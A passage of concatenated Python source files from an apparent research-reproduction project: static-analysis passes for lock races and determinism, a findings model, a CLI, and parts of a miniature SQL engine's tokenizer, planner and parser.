        return frozenset({name})
    return frozenset()


# ----------------------------------------------------------------------
# The walker
# ----------------------------------------------------------------------

class _LocksetWalker:
    """Flow-sensitive (for locks) walk of one entry point."""

    def __init__(
        self,
        index: CodeIndex,
        cls: str,
        attrs: Set[str],
        entry: str,
        depth: int,
    ) -> None:
        self.index = index
        self.cls = cls
        self.attrs = attrs
        self.entry = entry
        self.depth = depth
        self.accesses: List[Access] = []
        self._inlined: Set[str] = set()

    # -- statements ------------------------------------------------------

    def walk(self, fn: FunctionInfo) -> None:
        self._inlined.add(fn.qualname)
        self._visit_block(fn.node.body, fn, frozenset(), self.depth)

    def _visit_block(
        self,
        stmts: Sequence[ast.stmt],
        fn: FunctionInfo,
        held: FrozenSet[str],
        depth: int,
    ) -> None:
        for position, stmt in enumerate(stmts):
            if isinstance(stmt, ast.If) and _sched_enabled_test(stmt.test):
                # The scheduled branch is the concurrent world; the
                # else/fallthrough only runs single-threaded, where no
                # interleaving exists — skip it entirely.
                self._visit_block(stmt.body, fn, held, depth)
                if _terminates(stmt.body):
                    return
                continue
            self._visit_stmt(stmt, fn, held, depth)

    def _visit_stmt(
        self, stmt: ast.stmt, fn: FunctionInfo, held: FrozenSet[str], depth: int
    ) -> None:
        if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            return
        if isinstance(stmt, ast.With):
            acquired: FrozenSet[str] = frozenset()
            for item in stmt.items:
                acquired = acquired | _acquired_locks(item, self.cls)
                if not _acquired_locks(item, self.cls):
                    self._scan_expr(item.context_expr, fn, held, depth)
            self._visit_block(stmt.body, fn, held | acquired, depth)
            return
        if isinstance(stmt, (ast.If, ast.While)):
            self._scan_expr(stmt.test, fn, held, depth)
            self._visit_block(stmt.body, fn, held, depth)
            self._visit_block(stmt.orelse, fn, held, depth)
            return
        if isinstance(stmt, ast.For):
            self._scan_expr(stmt.iter, fn, held, depth)
            self._visit_block(stmt.body, fn, held, depth)
            self._visit_block(stmt.orelse, fn, held, depth)
            return
        if isinstance(stmt, ast.Try):
            self._visit_block(stmt.body, fn, held, depth)
            for handler in stmt.handlers:
                self._visit_block(handler.body, fn, held, depth)
            self._visit_block(stmt.orelse, fn, held, depth)
            self._visit_block(stmt.finalbody, fn, held, depth)
            return
        # Leaf statements: scan their expressions.
        for child in ast.iter_child_nodes(stmt):
            if isinstance(child, (ast.expr,)):
                self._scan_expr(child, fn, held, depth)
        if isinstance(stmt, (ast.Assign, ast.AugAssign, ast.AnnAssign, ast.Delete)):
            self._record_write_targets(stmt, fn, held)

    # -- expressions -----------------------------------------------------

    def _record_write_targets(
        self, stmt: ast.stmt, fn: FunctionInfo, held: FrozenSet[str]
    ) -> None:
        targets: List[ast.expr] = []
        if isinstance(stmt, ast.Assign):
            targets = list(stmt.targets)
        elif isinstance(stmt, (ast.AugAssign, ast.AnnAssign)):
            targets = [stmt.target]
        elif isinstance(stmt, ast.Delete):
            targets = list(stmt.targets)
        for target in targets:
            attr_node = target
            if isinstance(attr_node, (ast.Subscript,)):
                attr_node = attr_node.value
            if (
                isinstance(attr_node, ast.Attribute)
                and isinstance(attr_node.value, ast.Name)
                and attr_node.value.id == "self"
                and attr_node.attr in self.attrs
            ):
                self._record(attr_node.attr, "w", held, fn, attr_node.lineno)

    def _scan_expr(
        self, expr: ast.expr, fn: FunctionInfo, held: FrozenSet[str], depth: int
    ) -> None:
        consumed: Set[int] = set()
        for node in ast.walk(expr):
            if not isinstance(node, ast.Call):
                continue
            # In-place mutator calls: self.<attr>.append(...) etc.
            func = node.func
            if (
                isinstance(func, ast.Attribute)
                and func.attr in _MUTATORS
                and isinstance(func.value, ast.Attribute)
                and isinstance(func.value.value, ast.Name)
                and func.value.value.id == "self"
                and func.value.attr in self.attrs
            ):
                self._record(func.value.attr, "w", held, fn, node.lineno)
                consumed.add(id(func.value))
            # Helper inlining (same class / same module), lockset carried in.
            if depth > 0:
                callee = self.index.resolve_call(fn, node)
                if (
                    callee is not None
                    and callee.qualname not in self._inlined
                    and callee.name not in _LOCK_HELPERS
                ):
                    self._inlined.add(callee.qualname)
                    self._visit_block(callee.node.body, callee, held, depth - 1)
        for node in ast.walk(expr):
            if (
                isinstance(node, ast.Attribute)
                and id(node) not in consumed
                and isinstance(node.value, ast.Name)
                and node.value.id == "self"
                and node.attr in self.attrs
                and isinstance(node.ctx, ast.Load)
            ):
                self._record(node.attr, "r", held, fn, node.lineno)

    def _record(
        self, attr: str, rw: str, held: FrozenSet[str], fn: FunctionInfo, line: int
    ) -> None:
        self.accesses.append(
            Access(
                entry=self.entry,
                cls=self.cls,
                attr=attr,
                rw=rw,
                locks=held,
                file=str(fn.module.path),
                line=line,
            )
        )


# ----------------------------------------------------------------------
# The pass
# ----------------------------------------------------------------------

def collect_accesses(
    index: CodeIndex,
    singletons: Iterable[SharedClass] = SHARED_SINGLETONS,
    depth: int = 3,
) -> List[Access]:
    """Every shared-attribute access, per entry point, with locksets."""
    accesses: List[Access] = []
    for spec in singletons:
        module = index.modules.get(spec.module)
        if module is None:
            continue
        attrs = mutable_attrs(module, spec.cls)
        if not attrs:
            continue
        for fn in module.methods_of(spec.cls):
            if fn.name.startswith("_"):
                continue  # entry points are the public surface
            walker = _LocksetWalker(index, spec.cls, attrs, fn.qualname, depth)
            walker.walk(fn)
            accesses.extend(walker.accesses)
    return accesses


def _dedupe(accesses: Iterable[Access]) -> List[Access]:
    seen: Set[Tuple[str, str, str, str, FrozenSet[str]]] = set()
    out: List[Access] = []
    for access in accesses:
        key = (access.entry, access.cls, access.attr, access.rw, access.locks)
        if key in seen:
            continue
        seen.add(key)
        out.append(access)
    return out


def check_locksets(
    index: CodeIndex,
    singletons: Iterable[SharedClass] = SHARED_SINGLETONS,
    depth: int = 3,
) -> List[Finding]:
    """One finding per shared resource with a disjoint-lockset write pair."""
    accesses = _dedupe(collect_accesses(index, singletons, depth))
    by_resource: Dict[str, List[Access]] = {}
    for access in accesses:
        by_resource.setdefault(access.resource, []).append(access)

    findings: List[Finding] = []
    for resource in sorted(by_resource):
        group = by_resource[resource]
        pairs: List[Tuple[Access, Access]] = []
        for writer in group:
            if writer.rw != "w":
                continue
            for other in group:
                if other.entry == writer.entry:
                    continue
                if writer.locks & other.locks:
                    continue
                pair = (writer, other) if writer.entry <= other.entry else (other, writer)
                if pair not in pairs:
                    pairs.append(pair)
        if not pairs:
            continue
        pairs.sort(key=lambda p: (p[0].entry, p[1].entry))
        first = pairs[0]
        cls, attr = resource.split(".", 1)
        known = KNOWN_RACES.get((cls, attr))
        entries = sorted({e for pair in pairs for e in (pair[0].entry, pair[1].entry)})
        detail = "; ".join(
            f"{a.entry}:{a.line}[{a.rw},{{{','.join(sorted(a.locks)) or '-'}}}] vs "
            f"{b.entry}:{b.line}[{b.rw},{{{','.join(sorted(b.locks)) or '-'}}}]"
            for a, b in pairs[:4]
        )
        data: List[Tuple[str, str]] = [
            ("key", resource),
            ("entries", ",".join(entries)),
            ("pairs", str(len(pairs))),
        ]
        if known is not None:
            data.append(("planted", known[0]))
            data.append(("dynamic_resource", known[1]))
        findings.append(
            Finding(
                pass_name="locksets",
                rule="lockset-race",
                severity="warning",
                module=first[0].file and _module_of(index, first[0].file) or "",
                symbol=resource,
                file=first[0].file,
                line=min(first[0].line, first[1].line),
                message=(
                    f"writes to shared {resource} reachable from distinct entry "
                    f"points with disjoint locksets ({len(pairs)} pair(s)): {detail}"
                    + (f" [matches planted {known[0]}]" if known else "")
                ),
                data=tuple(sorted(data)),
            )
        )
    return findings


def _module_of(index: CodeIndex, path: str) -> str:
    for name, module in index.modules.items():
        if str(module.path) == path:
            return name
    return ""
