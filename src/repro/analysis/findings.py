"""The finding model every static-analysis pass reports through.

A :class:`Finding` is one defect claim: which pass produced it, which
rule fired, where (module / symbol / file:line), and a human-readable
message. Findings carry a **fingerprint** — a stable hash over the
*identity* of the defect (pass, rule, module, symbol, discriminator key)
that deliberately excludes line numbers and message text, so a baseline
suppression keeps matching while unrelated edits move code around.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Any, Dict, Mapping, Optional, Tuple

__all__ = ["Finding", "SEVERITY_ORDER", "rank_findings"]

#: Lower rank renders first.
SEVERITY_ORDER: Dict[str, int] = {"error": 0, "warning": 1, "info": 2}


@dataclass(frozen=True)
class Finding:
    """One static-analysis finding."""

    pass_name: str  #: "gates" | "locksets" | "determinism"
    rule: str  #: e.g. "missing-sched", "lockset-race", "wall-clock"
    severity: str  #: "error" | "warning" | "info"
    module: str  #: dotted module, e.g. "repro.kernel.syscall"
    symbol: str  #: qualified symbol, e.g. "Syscalls.write_file"
    file: str  #: path for rendering (not part of the fingerprint)
    line: int
    message: str
    #: Extra structured context (sorted key/value pairs so the dataclass
    #: stays hashable); e.g. the dynamic-resource hint of a lockset race.
    data: Tuple[Tuple[str, str], ...] = field(default=())

    @property
    def fingerprint(self) -> str:
        """Stable identity for baseline matching (no lines, no message)."""
        key = dict(self.data).get("key", "")
        ident = "|".join((self.pass_name, self.rule, self.module, self.symbol, key))
        return hashlib.sha256(ident.encode()).hexdigest()[:16]

    def datum(self, key: str, default: Optional[str] = None) -> Optional[str]:
        return dict(self.data).get(key, default)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "fingerprint": self.fingerprint,
            "pass": self.pass_name,
            "rule": self.rule,
            "severity": self.severity,
            "module": self.module,
            "symbol": self.symbol,
            "file": self.file,
            "line": self.line,
            "message": self.message,
            "data": dict(self.data),
        }

    @classmethod
    def from_dict(cls, raw: Mapping[str, Any]) -> "Finding":
        return cls(
            pass_name=raw["pass"],
            rule=raw["rule"],
            severity=raw["severity"],
            module=raw["module"],
            symbol=raw["symbol"],
            file=raw["file"],
            line=int(raw["line"]),
            message=raw["message"],
            data=tuple(sorted((str(k), str(v)) for k, v in raw.get("data", {}).items())),
        )

    def render(self) -> str:
        return (
            f"{self.file}:{self.line}: [{self.severity}] "
            f"{self.pass_name}/{self.rule} {self.symbol}: {self.message} "
            f"(fingerprint {self.fingerprint})"
        )


def rank_findings(findings) -> list:
    """Most severe first, then by pass, file, line — the CLI's order."""
    return sorted(
        findings,
        key=lambda f: (
            SEVERITY_ORDER.get(f.severity, 99),
            f.pass_name,
            f.file,
            f.line,
            f.rule,
            f.symbol,
        ),
    )
