"""Determinism lint: keep ambient nondeterminism out of the simulation.

The replay contract (DESIGN §8) is byte-identical: same seed, same
schedule digest, same provenance ledger. Any ambient entropy source —
wall clock, OS randomness, the process-global ``random`` state, hash-
order iteration feeding a digest — silently voids that contract. This
pass forbids them inside ``src/repro/``:

- ``wall-clock``    — ``time.time()/monotonic()/perf_counter()``,
  ``datetime.now()/utcnow()``, ``date.today()``; simulated components
  must use the virtual clock / scheduler step counter instead.
- ``unseeded-random`` — ``random.Random()`` constructed with no seed.
- ``global-random``  — module-level ``random.random()/randint()/...``
  which all share the process-global, ambient-seeded generator.
- ``entropy``        — ``os.urandom``, ``uuid.uuid4``, ``secrets.*``.
- ``set-iteration-digest`` — iterating a ``set(...)`` / set literal
  inside a digest-computing function without ``sorted(...)``: set
  iteration order depends on insertion history and hash seeds, so the
  digest stops being a pure function of the simulated state.

Genuinely-intentional uses (e.g. ``perf_counter`` in the profiling
harness, which measures the *host*, not the simulation) are suppressed
via the committed baseline with a written justification — never by
weakening the rule.
"""

from __future__ import annotations

import ast
from typing import Dict, Iterable, List, Optional, Set, Tuple

from repro.analysis.findings import Finding
from repro.analysis.ir import CodeIndex, FunctionInfo, ModuleIndex, dotted

__all__ = ["check_determinism"]

_WALL_CLOCK: Set[Tuple[str, str]] = {
    ("time", "time"),
    ("time", "time_ns"),
    ("time", "monotonic"),
    ("time", "monotonic_ns"),
    ("time", "perf_counter"),
    ("time", "perf_counter_ns"),
    ("datetime", "now"),
    ("datetime", "utcnow"),
    ("date", "today"),
}

_GLOBAL_RANDOM_FNS: Set[str] = {
    "random", "randint", "randrange", "choice", "choices", "shuffle",
    "sample", "uniform", "getrandbits", "gauss", "betavariate",
}

_DIGEST_MARKERS: Set[str] = {"sha256", "sha1", "md5", "blake2b", "blake2s", "digest", "hexdigest"}


def _enclosing_functions(module: ModuleIndex) -> Dict[int, FunctionInfo]:
    """Map id(node) -> the innermost indexed function containing it."""
    owner: Dict[int, FunctionInfo] = {}
    for fn in module.functions.values():
        for node in ast.walk(fn.node):
            owner[id(node)] = fn  # later (inner) functions overwrite outer
    return owner


def _symbol_for(node: ast.AST, owner: Dict[int, FunctionInfo]) -> str:
    fn = owner.get(id(node))
    return fn.qualname if fn is not None else "<module>"


def _is_digest_fn(fn: FunctionInfo) -> bool:
    if "digest" in fn.name.lower():
        return True
    for node in ast.walk(fn.node):
        if isinstance(node, ast.Call):
            chain = dotted(node.func)
            if chain is not None and chain[-1] in _DIGEST_MARKERS:
                return True
    return False


def _is_set_expr(node: ast.AST) -> bool:
    if isinstance(node, (ast.Set, ast.SetComp)):
        return True
    if isinstance(node, ast.Call):
        chain = dotted(node.func)
        return chain == ("set",) or (chain is not None and chain[-1] == "set")
    return False


def check_determinism(
    index: CodeIndex,
    modules: Optional[Iterable[str]] = None,
) -> List[Finding]:
    """Every ambient-nondeterminism use inside the indexed tree."""
    findings: List[Finding] = []
    seen: Set[str] = set()

    def emit(
        rule: str,
        module: ModuleIndex,
        symbol: str,
        line: int,
        message: str,
        key: str,
    ) -> None:
        finding = Finding(
            pass_name="determinism",
            rule=rule,
            severity="error",
            module=module.name,
            symbol=symbol,
            file=str(module.path),
            line=line,
            message=message,
            data=(("key", key),),
        )
        if finding.fingerprint in seen:
            return  # one finding per (symbol, source) — lines may repeat
        seen.add(finding.fingerprint)
        findings.append(finding)

    wanted = set(modules) if modules is not None else None
    for name in sorted(index.modules):
        if wanted is not None and name not in wanted:
            continue
        module = index.modules[name]
        owner = _enclosing_functions(module)

        for node in ast.walk(module.tree):
            if not isinstance(node, ast.Call):
                continue
            chain = dotted(node.func)
            if chain is None:
                continue
            symbol = _symbol_for(node, owner)
            source = ".".join(chain)

            if len(chain) >= 2 and (chain[-2], chain[-1]) in _WALL_CLOCK:
                emit(
                    "wall-clock", module, symbol, node.lineno,
                    f"ambient wall-clock read {source}() — simulated time must "
                    "come from the virtual clock / scheduler step counter",
                    source,
                )
            elif chain[-1] == "Random" and not node.args and not node.keywords:
                emit(
                    "unseeded-random", module, symbol, node.lineno,
                    f"{source}() constructed without a seed — replay requires "
                    "every generator to be derived from the run seed",
                    source,
                )
            elif chain == ("random", chain[-1]) and chain[-1] in _GLOBAL_RANDOM_FNS:
                emit(
                    "global-random", module, symbol, node.lineno,
                    f"module-global {source}() uses the ambient-seeded process "
                    "RNG — thread a seeded random.Random through instead",
                    source,
                )
            elif chain[-1] == "urandom" and "os" in chain:
                emit(
                    "entropy", module, symbol, node.lineno,
                    f"{source}() reads OS entropy — derive bytes from the run "
                    "seed instead",
                    source,
                )
            elif chain[-1] == "uuid4" or chain[0] == "secrets":
                emit(
                    "entropy", module, symbol, node.lineno,
                    f"{source}() is ambient entropy — derive identifiers from "
                    "the run seed instead",
                    source,
                )

        # Set iteration inside digest paths.
        for fn in module.functions.values():
            if not _is_digest_fn(fn):
                continue
            for node in ast.walk(fn.node):
                iter_expr: Optional[ast.AST] = None
                if isinstance(node, ast.For):
                    iter_expr = node.iter
                elif isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp)):
                    iter_expr = node.generators[0].iter
                if iter_expr is None or not _is_set_expr(iter_expr):
                    continue
                emit(
                    "set-iteration-digest", module, fn.qualname, node.lineno,
                    "iteration over a set inside a digest path depends on hash "
                    "order — wrap the set in sorted(...) first",
                    f"{fn.qualname}:set-iter",
                )
    return findings
