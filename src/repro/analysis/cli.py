"""The ``python -m repro.analysis`` entry point.

Runs the selected passes over ``src/repro``, filters through the
committed baseline, renders text or JSON, and exits:

- ``0`` — clean modulo baseline,
- ``1`` — new (unbaselined or expired-suppression) findings,
- ``2`` — usage / environment error (unreadable baseline, bad root).

``--write-baseline`` snapshots the current findings as a fresh baseline
(every entry still needs a hand-written justification before commit —
the placeholder text is deliberately unreviewable).
"""

from __future__ import annotations

import argparse
import datetime as _datetime
import json
import sys
from pathlib import Path
from typing import List, Optional, Sequence

from repro.analysis.baseline import Baseline, apply_baseline
from repro.analysis.determinism import check_determinism
from repro.analysis.findings import Finding, rank_findings
from repro.analysis.gates import check_gates
from repro.analysis.ir import CodeIndex
from repro.analysis.locksets import check_locksets

__all__ = ["main", "run_passes"]

PASSES = ("gates", "locksets", "determinism")


def _default_root() -> Path:
    # src/repro/analysis/cli.py -> src/repro
    return Path(__file__).resolve().parent.parent


def run_passes(index: CodeIndex, passes: Sequence[str]) -> List[Finding]:
    findings: List[Finding] = []
    if "gates" in passes:
        findings.extend(check_gates(index))
    if "locksets" in passes:
        findings.extend(check_locksets(index))
    if "determinism" in passes:
        findings.extend(check_determinism(index))
    return rank_findings(findings)


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.analysis",
        description="Static analysis plane: gate coverage, locksets, determinism.",
    )
    parser.add_argument(
        "--root", type=Path, default=None,
        help="package root to scan (default: the installed repro package)",
    )
    parser.add_argument(
        "--package", default="repro",
        help="dotted package name of --root (default: repro)",
    )
    parser.add_argument(
        "--passes", default=",".join(PASSES),
        help=f"comma-separated subset of {','.join(PASSES)}",
    )
    parser.add_argument("--format", choices=("text", "json"), default="text")
    parser.add_argument(
        "--baseline", type=Path, default=None,
        help="baseline JSON with justified suppressions (analysis/BASELINE.json)",
    )
    parser.add_argument(
        "--out", type=Path, default=None,
        help="also write the full JSON report to this path",
    )
    parser.add_argument(
        "--warn-only", action="store_true",
        help="report findings but exit 0 (CI warn lanes)",
    )
    parser.add_argument(
        "--show-baselined", action="store_true",
        help="also render suppressed findings with their justifications",
    )
    parser.add_argument(
        "--write-baseline", type=Path, default=None,
        help="snapshot current findings as a baseline file and exit",
    )
    parser.add_argument(
        "--today", default=None,
        help="override today's date (YYYY-MM-DD) for expiry evaluation",
    )
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    args = _parser().parse_args(argv)

    passes = tuple(p.strip() for p in args.passes.split(",") if p.strip())
    unknown = set(passes) - set(PASSES)
    if unknown:
        print(f"error: unknown pass(es): {', '.join(sorted(unknown))}", file=sys.stderr)
        return 2

    root = args.root if args.root is not None else _default_root()
    if not root.is_dir():
        print(f"error: --root {root} is not a directory", file=sys.stderr)
        return 2

    try:
        today = (
            _datetime.date.fromisoformat(args.today)
            if args.today
            else _datetime.date.today()
        )
    except ValueError as error:
        print(f"error: bad --today: {error}", file=sys.stderr)
        return 2

    index = CodeIndex.build(root, package=args.package)
    findings = run_passes(index, passes)

    if args.write_baseline is not None:
        baseline = Baseline.from_findings(
            findings,
            justification="TODO: justify or fix before committing this entry",
            added=today.isoformat(),
        )
        baseline.save(args.write_baseline)
        print(f"wrote {len(baseline.entries)} suppression(s) to {args.write_baseline}")
        return 0

    baseline = None
    if args.baseline is not None:
        try:
            baseline = Baseline.load(args.baseline)
        except (OSError, ValueError, KeyError) as error:
            print(f"error: cannot load baseline {args.baseline}: {error}", file=sys.stderr)
            return 2

    result = apply_baseline(findings, baseline, today)
    # An entry for a pass this run did not execute is not stale — the
    # CI lanes run the passes split (enforcing vs warn-only).
    result.stale = [e for e in result.stale if not e.pass_name or e.pass_name in passes]

    report = {
        "root": str(root),
        "passes": list(passes),
        "today": today.isoformat(),
        "parse_errors": [{"file": f, "error": e} for f, e in index.errors],
        "new": [f.to_dict() for f in result.new],
        "suppressed": [
            {**f.to_dict(), "justification": e.justification, "expires": e.expires}
            for f, e in result.suppressed
        ],
        "resurfaced": [f.fingerprint for f, _ in result.resurfaced],
        "stale_suppressions": [e.to_dict() for e in result.stale],
        "exit": 0,
    }
    failing = bool(result.new) or bool(index.errors)
    report["exit"] = 0 if (args.warn_only or not failing) else 1

    if args.format == "json":
        print(json.dumps(report, indent=2))
    else:
        for path, error in index.errors:
            print(f"{path}:1: [error] parse failed: {error}")
        for finding in result.new:
            marker = ""
            entry = baseline.entry_for(finding.fingerprint) if baseline else None
            if entry is not None:
                marker = f" [suppression expired {entry.expires}]"
            print(finding.render() + marker)
        if args.show_baselined:
            for finding, entry in result.suppressed:
                print(f"  (baselined) {finding.render()}")
                print(f"              justification: {entry.justification}")
        for entry in result.stale:
            print(
                f"note: stale suppression {entry.fingerprint} "
                f"({entry.pass_name}/{entry.rule} {entry.symbol}) matches nothing"
            )
        print(
            f"{len(result.new)} new finding(s), {len(result.suppressed)} baselined, "
            f"{len(result.stale)} stale suppression(s)"
        )

    if args.out is not None:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        args.out.write_text(json.dumps(report, indent=2) + "\n")

    return int(report["exit"])


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
