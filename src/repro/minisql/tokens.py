"""SQL tokenizer for the mini engine."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator, List, Optional

from repro.errors import SqlSyntaxError

KEYWORDS = {
    "SELECT", "FROM", "WHERE", "ORDER", "BY", "ASC", "DESC", "LIMIT", "OFFSET",
    "INSERT", "INTO", "VALUES", "UPDATE", "SET", "DELETE", "CREATE", "TABLE",
    "VIEW", "TRIGGER", "INSTEAD", "OF", "ON", "BEGIN", "END", "AS", "AND",
    "OR", "NOT", "IN", "IS", "NULL", "LIKE", "BETWEEN", "EXISTS", "UNION",
    "ALL", "DISTINCT", "GROUP", "HAVING", "JOIN", "INNER", "LEFT", "CROSS",
    "PRIMARY", "KEY", "UNIQUE", "DEFAULT", "REPLACE", "DROP", "IF",
    "INTEGER", "TEXT", "REAL", "BLOB", "BOOLEAN", "CASE", "WHEN", "THEN",
    "ELSE", "COUNT", "GLOB",
}

_OPERATORS = [
    "<>", "!=", "<=", ">=", "||", "=", "<", ">", "+", "-", "*", "/", "%",
    "(", ")", ",", ".", ";", "?",
]


@dataclass
class Token:
    """One lexical token. ``kind`` is KEYWORD, IDENT, NUMBER, STRING, OP or EOF."""

    kind: str
    value: str
    position: int

    def matches(self, kind: str, value: Optional[str] = None) -> bool:
        if self.kind != kind:
            return False
        return value is None or self.value == value


def tokenize(sql: str) -> List[Token]:
    """Tokenize ``sql``, raising :class:`SqlSyntaxError` on bad input."""
    tokens: List[Token] = []
    i = 0
    length = len(sql)
    while i < length:
        ch = sql[i]
        if ch.isspace():
            i += 1
            continue
        if sql.startswith("--", i):
            newline = sql.find("\n", i)
            i = length if newline < 0 else newline + 1
            continue
        if ch == "'":
            end = i + 1
            chunks: List[str] = []
            while True:
                if end >= length:
                    raise SqlSyntaxError(f"unterminated string at {i}")
                if sql[end] == "'":
                    if end + 1 < length and sql[end + 1] == "'":
                        chunks.append(sql[i + 1 : end + 1])
                        i = end + 1
                        end = i + 1
                        continue
                    break
                end += 1
            chunks.append(sql[i + 1 : end])
            tokens.append(Token("STRING", "".join(chunks), i))
            i = end + 1
            continue
        if ch == '"' or ch == "`" or ch == "[":
            closing = {'"': '"', "`": "`", "[": "]"}[ch]
            end = sql.find(closing, i + 1)
            if end < 0:
                raise SqlSyntaxError(f"unterminated quoted identifier at {i}")
            tokens.append(Token("IDENT", sql[i + 1 : end], i))
            i = end + 1
            continue
        if ch.isdigit() or (ch == "." and i + 1 < length and sql[i + 1].isdigit()):
            end = i
            seen_dot = False
            while end < length and (sql[end].isdigit() or (sql[end] == "." and not seen_dot)):
                if sql[end] == ".":
                    seen_dot = True
                end += 1
            tokens.append(Token("NUMBER", sql[i:end], i))
            i = end
            continue
        if ch.isalpha() or ch == "_":
            end = i
            while end < length and (sql[end].isalnum() or sql[end] == "_"):
                end += 1
            word = sql[i:end]
            if word.upper() in KEYWORDS:
                tokens.append(Token("KEYWORD", word.upper(), i))
            else:
                tokens.append(Token("IDENT", word, i))
            i = end
            continue
        for op in _OPERATORS:
            if sql.startswith(op, i):
                tokens.append(Token("OP", op, i))
                i += len(op)
                break
        else:
            raise SqlSyntaxError(f"unexpected character {ch!r} at {i}")
    tokens.append(Token("EOF", "", length))
    return tokens
