"""A from-scratch miniature SQL engine with the features Maxoid's
copy-on-write proxy needs.

The paper's proxy layer (section 5.2) is defined in terms of SQLite
constructs: base tables, SQL views, ``INSTEAD OF`` triggers on views,
``UNION ALL`` compound views, and the *subquery flattening* optimisation
(including the ORDER BY restriction its footnote 5 documents). This engine
implements exactly that surface:

- ``CREATE TABLE`` with INTEGER PRIMARY KEY (rowid-style autoincrement),
  NOT NULL, DEFAULT;
- ``SELECT`` with WHERE, ORDER BY, LIMIT/OFFSET, column aliases, ``*``,
  inner joins, ``UNION ALL``, aggregates (COUNT/MIN/MAX/SUM/AVG), GROUP BY,
  ``IN (SELECT ...)``, EXISTS and scalar subqueries;
- ``INSERT`` / ``INSERT OR REPLACE`` / ``UPDATE`` / ``DELETE`` with ``?``
  parameters;
- ``CREATE VIEW`` (stored SELECT) and ``CREATE TRIGGER ... INSTEAD OF``
  with ``NEW.col`` / ``OLD.col`` references;
- a query planner that flattens queries over UNION ALL views into their
  branches, with a switch emulating SQLite 3.8.6's ORDER BY restriction.

Usage::

    from repro.minisql import Database
    db = Database()
    db.execute("CREATE TABLE words (_id INTEGER PRIMARY KEY, word TEXT)")
    db.execute("INSERT INTO words (word) VALUES (?)", ["hello"])
    result = db.execute("SELECT word FROM words WHERE _id = ?", [1])
    result.rows  # [('hello',)]
"""

from repro.minisql.engine import Database, ResultSet
from repro.minisql.planner import PlannerStats

__all__ = ["Database", "ResultSet", "PlannerStats"]
