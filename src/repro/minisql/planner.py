"""Query-planning decisions: UNION ALL subquery flattening.

The Maxoid COW proxy depends on SQLite's *subquery flattening*
optimisation: a COW view is ``SELECT ... FROM primary WHERE ... UNION ALL
SELECT ... FROM delta WHERE ...``, and queries over it stay efficient only
if the planner pushes the outer WHERE into the two arms instead of
materialising the whole view.

Footnote 5 of the paper documents a real SQLite limitation the authors had
to work around: *SQLite 3.8.6 does not flatten a query over a UNION ALL
view when the query has an ORDER BY clause, unless the ORDER BY columns are
a subset of the columns being queried* (3.7.11 as shipped with Android
4.3.2 never flattened such queries). The proxy's workaround adds the ORDER
BY columns to the queried columns.

This module reproduces those rules so the ablation benchmark can measure
the flattened-vs-materialised difference, and so the proxy's workaround is
actually load-bearing in this reproduction, as it was in the paper.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Set

from repro.minisql import ast_nodes as ast


@dataclass
class PlannerStats:
    """Counters the benchmarks read."""

    flattened_queries: int = 0
    materialized_views: int = 0
    materialized_rows: int = 0
    rows_scanned: int = 0

    def reset(self) -> None:
        self.flattened_queries = 0
        self.materialized_views = 0
        self.materialized_rows = 0
        self.rows_scanned = 0


# SQLite-version emulation levels for the flattening rule.
FLATTEN_NEVER_WITH_ORDER_BY = "3.7.11"  # Android 4.3.2's SQLite
FLATTEN_ORDER_BY_SUBSET = "3.8.6"  # the version the authors ported
FLATTEN_ALWAYS = "ideal"  # hypothetical fully-fixed planner


def _core_is_flattenable(core: ast.SelectCore) -> bool:
    """An arm of a compound view can be flattened if it is a plain
    projection+filter over a single source."""
    if core.distinct or core.group_by or core.having or core.joins:
        return False
    if core.source is None or core.source.subquery is not None:
        return False
    return True


def view_is_flattenable(select: ast.Select) -> bool:
    """True if the view body is a UNION ALL of plain cores with no
    ORDER BY/LIMIT of its own."""
    if select.order_by or select.limit is not None or select.offset is not None:
        return False
    return all(_core_is_flattenable(core) for core in select.cores)


def _column_names(expr: ast.Expr) -> Set[str]:
    """Column names referenced by an ORDER BY expression (lowercased,
    unqualified)."""
    names: Set[str] = set()
    stack: List[ast.Expr] = [expr]
    while stack:
        node = stack.pop()
        if isinstance(node, ast.Column):
            names.add(node.name.lower())
        elif isinstance(node, ast.Unary):
            stack.append(node.operand)
        elif isinstance(node, ast.Binary):
            stack.extend((node.left, node.right))
        elif isinstance(node, ast.FunctionCall):
            stack.extend(node.args)
    return names


def order_by_is_subset(
    order_by: List[ast.OrderItem], queried_columns: Optional[Set[str]]
) -> bool:
    """The 3.8.6 rule: every ORDER BY column must be among the queried
    columns. ``queried_columns=None`` means the query selects ``*`` (all
    columns), which always satisfies the rule."""
    if queried_columns is None:
        return True
    needed: Set[str] = set()
    for item in order_by:
        needed |= _column_names(item.expr)
    return needed <= queried_columns


def should_flatten(
    view_select: ast.Select,
    outer_order_by: List[ast.OrderItem],
    queried_columns: Optional[Set[str]],
    sqlite_emulation: str = FLATTEN_ORDER_BY_SUBSET,
) -> bool:
    """Decide whether a query over a UNION ALL view is flattened.

    ``queried_columns`` is the set of (lowercased) column names in the
    outer select list, or ``None`` for ``SELECT *``.
    """
    if not view_is_flattenable(view_select):
        return False
    if not outer_order_by:
        return True
    if sqlite_emulation == FLATTEN_NEVER_WITH_ORDER_BY:
        # 3.7.11: no flattening on UNION ALL views when ORDER BY present,
        # unless the query uses '*' as the columns.
        return queried_columns is None
    if sqlite_emulation == FLATTEN_ORDER_BY_SUBSET:
        return order_by_is_subset(outer_order_by, queried_columns)
    return True  # FLATTEN_ALWAYS
