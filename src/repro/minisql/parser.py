"""Recursive-descent parser for the mini SQL dialect.

Grammar is the subset documented in :mod:`repro.minisql`. Parse entry point
is :func:`parse`, which returns a single statement AST; a trailing ``;`` is
tolerated. Parameters (``?``) are numbered left to right.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.errors import SqlSyntaxError
from repro.minisql import ast_nodes as ast
from repro.minisql.tokens import Token, tokenize


class _Parser:
    def __init__(self, sql: str) -> None:
        self.sql = sql
        self.tokens = tokenize(sql)
        self.pos = 0
        self.param_count = 0

    # -- token helpers ------------------------------------------------------

    def peek(self, offset: int = 0) -> Token:
